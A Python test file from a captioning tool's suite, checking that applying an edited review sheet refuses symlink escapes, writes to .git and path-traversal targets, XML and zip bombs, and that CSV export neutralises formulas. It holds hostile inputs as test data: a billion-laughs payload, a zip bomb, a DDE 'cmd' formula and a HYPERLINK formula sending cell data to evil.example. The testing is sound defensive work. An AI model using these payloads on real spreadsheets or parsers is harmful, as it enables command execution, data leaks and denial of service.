"""Issue 15 items 3, 4 and 11 (sheets): an edited review sheet is untrusted input.

Before: ``review apply`` followed folder symlinks inside the dataset (writing outside
it), created files for rows with an empty hash, wrote ``.git/config`` with a dataset
config ``caption-extensions: [""]``, aborted midway (after writing files) on a row naming
a missing subfolder, and gave tracebacks for an XML-bomb workbook and a CSV cell over
128 KB; CSV export wrote captions verbatim, so ``=HYPERLINK(...)`` became a live formula.
"""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from pathlib import Path

import pytest

from anima_caption._review._sheet import HEADERS, read_sheet
from anima_caption.cli import main
from tests.hostile.conftest import run_cli

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00"
    b"\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\r\xefF\xb8"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _dataset(tmp_path: Path) -> Path:
    root = tmp_path / "dataset"
    root.mkdir()
    for name in ("a", "b", "c"):
        (root / f"{name}.png").write_bytes(PNG)
        (root / f"{name}.txt").write_bytes(f"1girl, {name}, safe\n".encode())
    (root / "new.png").write_bytes(PNG)  # an image without a caption
    return root


def _sheet(path: Path, rows: list[tuple[str, str, str]]) -> Path:
    """A CSV review sheet with rows (caption file, sha, proposed caption)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(HEADERS)
    for key, sha, caption in rows:
        writer.writerow(["", key, "", caption, "", "", key, sha])
    path.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    return path


def _apply(sheet: Path, root: Path) -> tuple[int, str]:
    run = run_cli("review", "apply", sheet, root, "--write", "--no-progress", timeout=60)
    run.no_traceback()
    return run.code, run.err


def test_a_folder_symlink_inside_the_dataset_is_not_followed(tmp_path: Path) -> None:
    root = _dataset(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.txt").write_bytes(b"mine\n")
    (outside / "x.png").write_bytes(PNG)
    (root / "sub").symlink_to(outside, target_is_directory=True)
    sheet = _sheet(
        tmp_path / "r.csv",
        [("sub/x.txt", _sha(b"mine\n"), "pwned"), ("sub/y.txt", "", "pwned")],
    )
    code, err = _apply(sheet, root)
    assert code == 1
    assert "outside the dataset folder" in err
    assert sorted(p.name for p in outside.iterdir()) == ["x.png", "x.txt"]
    assert (outside / "x.txt").read_bytes() == b"mine\n"


def test_empty_hash_rows_create_captions_only_for_images(tmp_path: Path) -> None:
    root = _dataset(tmp_path)
    sheet = _sheet(
        tmp_path / "r.csv",
        [("new.txt", "", "1girl, new, safe"), ("ghost.txt", "", "1girl, ghost, safe")],
    )
    code, err = _apply(sheet, root)
    assert code == 1
    assert (root / "new.txt").read_text(encoding="utf-8") == "1girl, new, safe"
    assert not (root / "ghost.txt").exists()
    assert "row 3 (ghost.txt): no such caption file and no image 'ghost.*'" in err


@pytest.mark.parametrize(
    "key", [".git/config", ".git/hooks/pre-commit.txt", ".anima-caption/journal/x.txt",
            "a.txt/../../escape.txt", "/etc/passwd.txt", ".txt"]
)
def test_hidden_folders_and_escapes_are_never_written(tmp_path: Path, key: str) -> None:
    root = _dataset(tmp_path)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_bytes(b"[core]\n")
    sheet = _sheet(tmp_path / "r.csv", [(key, "", "evil"), (key, _sha(b"[core]\n"), "evil")])
    code, err = _apply(sheet, root)
    assert code == 1
    assert "not a caption file inside the dataset" in err
    assert (root / ".git" / "config").read_bytes() == b"[core]\n"
    assert list((root / ".git" / "hooks").iterdir()) == []


def test_an_empty_caption_extension_in_the_dataset_config_is_a_config_error(
    tmp_path: Path,
) -> None:
    root = _dataset(tmp_path)
    (root / "anima-caption.yaml").write_text('caption-extensions: [""]\n', encoding="utf-8")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_bytes(b"[core]\n")
    sheet = _sheet(tmp_path / "r.csv", [(".git/config", _sha(b"[core]\n"), "evil")])
    code, err = _apply(sheet, root)
    assert code == 2
    assert "anima-caption.yaml:1:" in err and "not a file extension" in err
    assert (root / ".git" / "config").read_bytes() == b"[core]\n"


def test_a_row_naming_a_missing_folder_is_refused_before_anything_is_written(
    tmp_path: Path,
) -> None:
    root = _dataset(tmp_path)
    rows = [
        ("a.txt", _sha((root / "a.txt").read_bytes()), "1girl, edited, safe"),
        ("missing/z.txt", "", "1girl, z"),
        ("c.txt", _sha((root / "c.txt").read_bytes()), "1girl, edited c, safe"),
    ]
    code, err = _apply(_sheet(tmp_path / "r.csv", rows), root)
    assert code == 1
    assert "row 3 (missing/z.txt): its folder does not exist" in err
    assert (root / "a.txt").read_text(encoding="utf-8").startswith("1girl, edited, safe")
    assert (root / "c.txt").read_text(encoding="utf-8").startswith("1girl, edited c, safe")
    assert not (root / "missing").exists()


def test_symlinked_caption_rows_are_refused(tmp_path: Path) -> None:
    root = _dataset(tmp_path)
    target = tmp_path / "target.txt"
    target.write_bytes(b"mine\n")
    (root / "a.txt").unlink()
    (root / "a.txt").symlink_to(target)
    code, err = _apply(_sheet(tmp_path / "r.csv", [("a.txt", _sha(b"mine\n"), "pwned")]), root)
    assert code == 1
    assert "is a symbolic link" in err
    assert target.read_bytes() == b"mine\n"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "'quoted caption",
]


def test_csv_export_neutralises_formulas_and_reads_them_back_exactly(tmp_path: Path) -> None:
    root = tmp_path / "dataset"
    root.mkdir()
    for n, caption in enumerate(FORMULAS):
        (root / f"f{n}.txt").write_text(caption + "\n", encoding="utf-8")
    sheet = tmp_path / "review.csv"
    assert main(["review", "export", str(root), "--out", str(sheet), "--no-progress"]) == 0
    cells = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
    for row in cells[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    proposed = {r.key: r.caption for r in read_sheet(sheet)}
    assert proposed == {f"f{n}.txt": caption for n, caption in enumerate(FORMULAS)}
    # Applying the untouched sheet changes nothing.
    assert main(["review", "apply", str(sheet), str(root), "--no-progress"]) == 0


def test_a_csv_cell_over_128_kb_is_read(tmp_path: Path) -> None:
    root = _dataset(tmp_path)
    long = "1girl, " + ", ".join(f"{n % 7} tags" for n in range(30_000))
    assert len(long) > 128 * 1024
    sheet = _sheet(tmp_path / "r.csv", [("a.txt", _sha((root / "a.txt").read_bytes()), long)])
    run = run_cli("review", "apply", sheet, root, "--no-progress", "-q", timeout=60)
    run.no_traceback()
    assert "1 caption(s) would change" in run.err


def test_a_csv_cell_over_the_limit_is_one_line(tmp_path: Path) -> None:
    sheet = tmp_path / "r.csv"
    sheet.write_text(",".join(HEADERS) + "\n" + '"' + "x" * (5 << 20) + '"\n', encoding="utf-8")
    root = _dataset(tmp_path)
    run = run_cli("review", "apply", sheet, root, "--no-progress", timeout=60)
    run.no_traceback()
    assert run.code == 2
    assert "r.csv:2: not a readable CSV row" in run.err


def _workbook_with(tmp_path: Path, sheet_xml: bytes) -> Path:
    """A real export with its sheet XML replaced."""
    root = _dataset(tmp_path)
    book = tmp_path / "review.xlsx"
    assert main(["review", "export", str(root), "--out", str(book), "--no-progress"]) == 0
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml
            dst.writestr(info, data)
    return bomb


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'.encode()
        for n in range(1, 10)
    )
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def test_an_xml_bomb_workbook_is_one_line(tmp_path: Path) -> None:
    bomb = _workbook_with(tmp_path, LAUGHS)
    run = run_cli("review", "apply", bomb, tmp_path / "dataset", timeout=60, memory_mb=1500)
    run.no_traceback()
    assert run.code == 2
    assert "bomb.xlsx: cannot read the workbook" in run.err


def test_a_zip_bomb_workbook_is_refused_unread(tmp_path: Path) -> None:
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
        for n in range(1, 200)
    )
    huge = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>" + rows + b" " * (520 << 20) + b"</sheetData></worksheet>"
    )
    bomb = _workbook_with(tmp_path, huge)
    assert bomb.stat().st_size < 5 << 20
    run = run_cli("review", "apply", bomb, tmp_path / "dataset", timeout=60, memory_mb=1500)
    run.no_traceback()
    assert run.code == 2
    assert "unpacks to" in run.err
